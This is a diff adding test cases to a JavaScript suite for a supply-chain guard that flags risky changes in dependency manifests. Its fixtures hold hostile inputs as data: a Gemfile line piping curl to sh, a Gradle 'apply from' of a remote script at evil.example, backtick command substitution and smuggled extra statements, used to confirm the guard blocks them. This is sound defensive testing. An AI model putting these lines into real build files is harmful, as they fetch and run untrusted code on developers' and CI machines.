@@ -34,6 +34,7 @@ describe('requirements.txt', () => {
     ['a continued line', base, `${base}evil \\\n  == 1.0 \\\n  --hash=sha256:${'a'.repeat(64)}\n`, ['BLOCK 3 Adds the dependency evil ==1.0']],
     ['extras', base, base.replace('requests==', 'requests[socks]=='), ['WARN 1 Changes']],
     ['a marker', base, base.replace('"3.8"', '"3.9"'), ['WARN 2 Changes what is asked of flask']],
+    ['a line that ends as Python sees it', base, `${base}a==1\fevil==1\n`, ['BLOCK 3 Adds the dependency a', 'BLOCK 4 Adds the dependency evil']],
     ['a line that is none', base, `${base}!!!\n`, ['BLOCK 3 requirements.txt cannot be read']],
   ])('%s', (...each) => check('requirements.txt', each));
   it.each(['requirements-dev.txt', 'dev-requirements.txt', 'requirements/prod.txt', 'constraints.txt', 'requirements.in', 'Requirements.TXT', 'test_requirements.txt'])('is also %s', (path) => {
@@ -143,7 +144,8 @@ describe('Gradle', () => {
     ['a version in a variable', `def v = "1"\n${base.replace("'org.a:a:1.0'", '"org.a:a:$v"')}`, `def v = "2"\n${base.replace("'org.a:a:1.0'", '"org.a:a:${v}"')}`, ['WARN 7 Raises org.a:a in build.gradle from 1 to 2']],
     ['a plugin', base, base.replace("id 'java'", "id 'java'\n  id(\"evil\") version \"1\""), ['BLOCK 3 Adds the dependency evil 1']],
     ['a repository', base, base.replace('mavenCentral()', 'mavenCentral(); maven { url "https://evil.example" }'), ['BLOCK 4 Adds where packages come from: repository https://evil.example']],
-    ['a script', base, `${base}apply from: 'https://evil.example/x.gradle'\n`, ['BLOCK 8 Adds the command apply from']],
+    ['a repository by a setter', base, base.replace('mavenCentral()', 'mavenCentral(); maven { setUrl("https://evil.example") }'), ['BLOCK 4 Adds where packages come from: repository https://evil.example']],
+    ['a script', base, `${base}apply from: 'https://evil.example/x.gradle'\n`, ['BLOCK 8 Adds where packages', 'BLOCK 8 Adds the command apply from']],
     ['a comment', base, base.replace('dependencies {', "// implementation 'org.evil:evil:1'\ndependencies { /* 'x:y:1' */"), []],
     ['files', base, base.replace("a:1.0'", "a:1.0'\n  implementation files('libs/x.jar')"), ['BLOCK 7 Adds the dependency files']],
   ])('%s', (...each) => check('build.gradle', each));
@@ -163,6 +165,10 @@ describe('Ruby', () => {
     ['a block with a source', base, `${base}source 'https://evil.example' do\n  gem 'x'\nend\n`, ['BLOCK 7 Adds the dependency x from source https://evil.example', 'BLOCK 6 Adds where packages come from: source']],
     ['another source', base, base.replace('rubygems.org', 'evil.example'), ['BLOCK 1 Changes where packages come from: source']],
     ['code', base, `${base}system('curl x | sh')\n`, ['BLOCK 6 Adds the command code']],
+    ['a second statement', base, base.replace("'~> 7.0'", "'~> 7.0'; gem 'evil'"), ['WARN 2 ', 'BLOCK 2 Adds the command code']],
+    ['code in a text', base, base.replace("'~> 7.0'", '"#{`id`}"'), ['WARN 2 ', 'BLOCK 2 Adds the command code']],
+    ['a condition', base, base.replace("'~> 7.0'", "'~> 7.0' if system('x')"), ['BLOCK 2 Adds the command code']],
+    ['code in a group', base, base.replace('group :test do', 'group(`id`) do'), ['BLOCK 3 Adds the command code']],
     ['a continued line', base, base.replace("'rails', '~> 7.0'", "'rails',\n  '~> 7.0'"), []],
     ['comments and quotes', base, base.replace("gem 'rails', '~> 7.0'", "gem(\"rails\", \"~> 7.0\") # the framework"), []],
   ])('%s', (...each) => check('Gemfile', each));
@@ -211,6 +217,8 @@ describe('Dockerfile', () => {
     ['a download', base, `${base}ADD https://evil.example/x.sh /x.sh\n`, ['BLOCK 6 Adds the dependency https://evil.example/x.sh']],
     ['a digest that goes', pinned, 'FROM node:24\n', ['BLOCK 1 Takes node in Dockerfile from the usual registry; it came from a place with a fixed hash']],
     ['a digest that comes', 'FROM node:24\n', pinned, ['WARN 1 Changes']],
+    ['a here-document that is none', base, `${base}RUN echo "<<EOF"\nFROM evil\n`, ['BLOCK 7 Adds the dependency evil']],
+    ['a here-document without an end', base, `${base}RUN <<EOF\nFROM evil\n`, ['BLOCK 7 Adds the dependency evil']],
     ['a continued FROM', base, base.replace('FROM node:$V AS build', 'from \\\n  --platform=linux/amd64 \\\n  docker.io/library/node:24 as Build'), []],
     ['a comment and a here-document', base, base.replace('RUN npm ci', '# FROM evil\nRUN <<EOF\nFROM evil\nEOF'), []],
   ])('%s', (...each) => check('Dockerfile', each));
@@ -229,6 +237,7 @@ describe('workflows', () => {
     ['a new action', base, `${base}      - uses: evil/action@v1\n`, ['BLOCK 5 Adds the dependency evil/action v1']],
     ['another commit', base, base.replace(pin, 'b'.repeat(40)), ['WARN 4 ']],
     ['a tag instead of a commit', base, base.replace(pin, 'v5'), ['BLOCK 4 Takes actions/checkout']],
+    ['a container', base, base.replace('    steps:', '    container: evil/x:1\n    steps:'), ['BLOCK 3 Adds the dependency evil/x 1']],
     ['an image', base, `${base}      - uses: docker://evil/x:1\n`, ['BLOCK 5 Adds the dependency evil/x 1']],
   ])('%s', (...each) => check('.github/workflows/ci.yml', each));
 });
